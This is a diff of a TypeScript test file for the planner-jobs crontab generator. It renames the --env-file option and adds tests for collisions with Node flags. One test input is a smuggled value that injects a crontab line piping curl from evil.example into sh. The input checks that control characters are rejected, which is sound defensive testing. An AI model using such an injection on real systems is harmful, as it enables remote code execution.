@@ -275,7 +275,7 @@ describe('schedules: exactly what Debian cron and the Kubernetes CronJob parser 
 
 describe('crontab option values never carry a control character into the crontab (64)', () => {
   it.each([
-    ['--env-file', '/etc/planner.env\n* * * * * root curl evil.example | sh'],
+    ['--environment-file', '/etc/planner.env\n* * * * * root curl evil.example | sh'],
     ['--log-dir', '/var/log\rplanner'],
     ['--bin', 'planner-jobs\tx'],
   ])('%s', async (option, value) => {
@@ -286,21 +286,34 @@ describe('crontab option values never carry a control character into the crontab
 });
 
 describe('no option of planner-jobs is taken by Node itself', () => {
-  it('crontab --env-file PATH reaches planner-jobs (Node 20 used to read it as its own --env-file, exit 9)', async () => {
-    const result = await run(['crontab', '--env-file', '/nonexistent/planner-jobs.env'], {});
-    expect(result.code, result.stderr).toBe(0);
-    expect(result.stdout).toContain('set -a; . /nonexistent/planner-jobs.env; set +a;');
-  });
-
-  it('every option that is also a Node runtime flag reaches planner-jobs through the binary', async () => {
-    const nodeFlags = new Set(execFileSync(process.execPath, ['--help'], { encoding: 'utf8' }).match(/--[a-z][a-z0-9-]*/g));
+  const allOptions = (): [string[], Option][] => {
     const program = buildProgram({ stdout: new PassThrough(), stderr: new PassThrough() });
     const options = (command: Command, words: string[]): [string[], Option][] => [
       ...command.options.map((option): [string[], Option] => [words, option]),
       ...command.commands.flatMap((sub) => options(sub, [...words, sub.name()])),
     ];
-    const collisions = options(program, []).filter(([, option]) => option.long && nodeFlags.has(option.long));
-    expect(collisions.map(([, option]) => option.long)).toContain('--env-file');
+    return options(program, []);
+  };
+
+  it("no option is named --env-file: Node 20 reads it anywhere on its command line, a launcher's (npx) included", () => {
+    expect(allOptions().filter(([, option]) => option.long?.startsWith('--env-file'))).toEqual([]);
+  });
+
+  it("npx planner-jobs crontab --environment-file PATH reaches planner-jobs (npx runs npm's own node with our arguments)", () => {
+    const stdout = execFileSync(
+      'npx',
+      ['--no-install', 'planner-jobs', 'crontab', '--environment-file', '/nonexistent/planner-jobs.env'],
+      {
+        encoding: 'utf8',
+        env: { PATH: process.env.PATH, HOME: process.env.HOME },
+      },
+    );
+    expect(stdout).toContain('set -a; . /nonexistent/planner-jobs.env; set +a;');
+  });
+
+  it('every option that is also a Node runtime flag reaches planner-jobs through the binary', async () => {
+    const nodeFlags = new Set(execFileSync(process.execPath, ['--help'], { encoding: 'utf8' }).match(/--[a-z][a-z0-9-]*/g));
+    const collisions = allOptions().filter(([, option]) => option.long && nodeFlags.has(option.long));
     for (const [words, option] of collisions) {
       const value = option.required || option.optional ? ['/nonexistent/value'] : [];
       const result = await run([...words, option.long!, ...value, '--help'], {});
